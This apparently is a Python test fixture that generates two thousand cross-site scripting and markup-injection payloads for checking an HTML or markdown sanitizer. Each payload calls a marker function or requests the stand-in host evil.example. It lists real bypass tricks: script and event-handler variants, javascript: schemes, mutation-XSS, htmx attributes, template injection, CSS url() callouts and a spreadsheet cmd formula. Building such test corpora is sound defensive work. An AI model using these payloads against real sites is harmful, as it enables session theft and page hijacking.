"""Two thousand texts that would do something if a page took them for markup.

A grammar written by hand: what runs, in which trick, in which wrapping. Each one
calls ``__pwned`` with its own number or asks ``evil.example``, so that a test sees
which of them ran.
"""

from __future__ import annotations

import random
from itertools import cycle, islice, product

COUNT = 2_000
SEED = 20261120
HOST = "evil.example"

_CALLS = (
    "__pwned({n})",
    "window.__pwned({n})",
    "top['__pwned']({n})",
    "alert(__pwned({n}))",
    "fetch('//evil.example/{n}').then(__pwned({n}))",
)
_SCRIPTS = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<script/x>{js}</script\t\n>",
    "<script\x0c>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script src=//evil.example/{n}.js></script>",
    "<script src=data:text/javascript,{js}></script>",
    "<script type=module>{js}</script>",
    "<script async defer nomodule=0>{js}//</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</style></noscript><script>{js}</script>",
    "--><script>{js}</script><!--",
    "--!><script>{js}</script>",
    "]]><script>{js}</script>",
    "</script><script>{js}</script>",
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    "＜script＞{js}＜/script＞",
    "<ſcript>{js}</ſcript>",
)
_TAGS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x",
    "audio src=x", "iframe src=x", "object data=x", "marquee", "select autofocus",
    "a href=#", "div", "math", "button autofocus", "link rel=stylesheet href=x",
    "textarea autofocus", "embed src=x", "p", "b", "table background=x", "form",
    "style", "keygen autofocus", "frameset", "image src=x", "svg/", "li", "code",
)  # fmt: skip
_EVENTS = (
    "onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter",
    "onanimationstart", "onbegin", "onclick", "onstart",
    "oncontentvisibilityautostatechange", "OnErRoR", "onbeforetoggle", "onpageshow",
    "onwheel", "onscroll",
)  # fmt: skip
_HANDLERS = (
    "<{tag} {event}={js}>",
    '<{tag} {event}="{js}">',
    "<{tag} {event}='{js}'>",
    "<{tag}/{event}={js}//",
    "<{tag}\t{event}\t=\t{js} >",
    '<{tag} x="`" {event}={js} y="`>',
    "<{tag} {event}=&#95;&#95;pwned({n})>",
    '" {event}={js} x="',
    "' {event}={js} x='",
    "` {event}={js} x=`",
)
_SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", " javascript:{js}",
    "javascript&colon;{js}", "&#106;avascript:{js}", "&#x6A&#x61vascript:{js}",
    "javascript&#58;{js}", "java&NewLine;script:{js}", "\x01javascript:{js}",
    "javascript://%0a{js}", "vbscript:{js}", "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={js}>", "//evil.example/{n}", "blob:{js}",
    "view-source:javascript:{js}", "feed:javascript:{js}", "\u202ejavascript:{js}",
)  # fmt: skip
_LINKS = (
    "[open]({url})", "[open](<{url}>)", '[open]({url} "why")', "![seen]({url})",
    "<{url}>", "[open][{n}]\n\n[{n}]: {url}", "[[{url}]]", "[a]({url})[b](x)",
    '<a href="{url}">open</a>', "<a href={url}>open</a>",
    "<iframe src='{url}'></iframe>",
    '<object data="{url}"></object>', "<embed src={url}>", '<base href="{url}">',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<form action="{url}"><button>go',
    '<button form=f formaction="{url}">go</button>',
    '<svg><a xlink:href="{url}"><text>go',
    '<svg><use href="{url}#x"/></svg>', '<link rel=import href="{url}">',
    '<img src="{url}">', "<img srcset='{url} 2x'>", '<video poster="{url}"></video>',
    '<area shape=default href="{url}">', '<iframe srcdoc="<script>{js}</script>">',
)  # fmt: skip
_OTHERS = (
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{js}><a><text>go</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror={js}>",
    "<math></form><form><mglyph><svg><style><path id='</style><img onerror={js}>'>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<style>@import '//evil.example/{n}.css';</style>",
    '<div style="background:url(//evil.example/{n})">',
    '<div style="position:fixed;inset:0;background:red">',
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<img src=x onerror={js}//",
    "<script>{js}",
    '<a href="javascript:{js}',
    "<!-- {js}",
    "<![CDATA[<script>{js}</script>",
    "</div></section></main></body></html><script>{js}</script>",
    "<textarea><script>{js}</script>",
    "<title><img src=x onerror={js}>",
    "<plaintext>{js}",
    "<xmp><script>{js}</script></xmp>",
    "<template><img src=x onerror={js}></template>",
    "<select><option><img src=x onerror={js}></select>",
    "<table><td><img src=x onerror={js}></table>",
    "<dialog open><img src=x onerror={js}></dialog>",
    "\u202e<script>{js}</script>\u202c",
    "\u2066<img src=x onerror={js}>\u2069",
    "\ufeff<img src=x onerror={js}>",
    "<\u200bscript>{js}</script>",
    "abc\u202egpj.{js}\u202c.md",
    "\u061c\u200f\u200e{js}",
    "{{{{ request.user }}}} {js}",
    '{{% include "404.html" %}}{{% csrf_token %}} {js}',
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}} #{{{js}}} <%= {js} %>",
    "{{% debug %}}{{# {js} #}}",
    "%(name)s %s {{0}} {{}} {js}",
    "<div hx-get=/me/ hx-trigger=load hx-on::after-load='{js}'>",
    "<div hx-on:click='{js}' hx-trigger='load' hx-post=/w/acme/delete/>",
    "<div data-hx-on::load='{js}' data-hx-get=//evil.example/{n} data-hx-trigger=load>",
    "<a hx-boost=true hx-vals='js:{{x:{js}}}' href=//evil.example/{n}>go</a>",
    "<div id=main hx-swap-oob=true><script>{js}</script></div>",
    "<div hx-ext=sse sse-connect=//evil.example/{n} sse-swap=x>",
    "<a data-go=t data-key=h data-open=keys href='javascript:{js}'>go</a>",
    "<button data-href='javascript:{js}' role=option data-dismiss>go</button>",
    "<div hx-headers='js:{{x:{js}}}' hx-disinherit=* hx-trigger='every 1s[{js}]'>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "&amp;lt;img src=x onerror={js}&amp;gt;",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "%3Cscript%3E{js}%3C/script%3E",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "`<script>{js}</script>`",
    "``` onload={js}",
    "[a](http://a.test \"onmouseover='{js}'\")",
    '![a](x"onerror="{js}")',
    "[a]: x 'onerror={js}'",
    '<http://a.test"onmouseover={js}>',
    "*[x]: <img src=x onerror={js}>",
    "text {{: onclick={js} }}",
    "[^{n}]: <img src=x onerror={js}>",
    "| <img src=x onerror={js}> | [x](javascript:{js}) |",
    "<details><summary onclick={js}>x</summary>",
    "# <a id='x' name='location' onclick={js}>",
    "<a id=toasts name=body>{js}</a><form name=cookie>",
    "<img name=getElementById id=defaultView>{js}",
    "~~<del onfocus={js} tabindex=1 autofocus>~~",
    "[![x](x)](javascript:{js})",
    "<p>**<b onmouseover={js}>**</p>",
    "=1+cmd|'/C {js}'!A0",
    "\x1b]8;;javascript:{js}\x07go",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onload={js}/>",
)
_WRAPS = (
    "{}", '"><b>{}', "'><i>{}", "</textarea>{}", "</script>{}", "`{}", "**{}**",
    "[{}](x)", "x {} y", "<b title='{}'>", '<b title="{}">', "<!-- {} -->", "<p>{}",
    "{}\u202e", "(why: {})", "~~{}~~", "</a></b>{}", "\\{}", "&{};", "> {}",
)  # fmt: skip


def payloads() -> list[str]:
    """Return the texts, each of one line, always the same ones."""
    chance = random.Random(SEED)
    tricks = _tricks(chance)
    calls = cycle(_CALLS)
    plain = [_text(trick, next(calls), n) for n, trick in enumerate(tricks)]
    wraps = cycle(_WRAPS[1:])
    more = islice(cycle(tricks), COUNT - len(plain))
    wrapped = [
        next(wraps).replace("{}", _text(trick, next(calls), number))
        for number, trick in enumerate(more, len(plain))
    ]
    return [" ".join(text.splitlines()) for text in plain + wrapped]


def _tricks(chance: random.Random) -> list[str]:
    handlers = [
        pattern.replace("{tag}", tag).replace("{event}", event)
        for pattern, tag, event in product(_HANDLERS, _TAGS, _EVENTS)
    ]
    links = [
        link.replace("{url}", scheme) for link, scheme in product(_LINKS, _SCHEMES)
    ]
    chosen = [*_SCRIPTS, *_OTHERS, *chance.sample(handlers, 420), *links]
    assert len(chosen) <= COUNT
    return chosen


def _text(trick: str, call: str, number: int) -> str:
    js = call.replace("{n}", str(number))
    text = trick.replace("{js}", js).replace("{n}", str(number))
    return text.replace("{{", "{").replace("}}", "}")
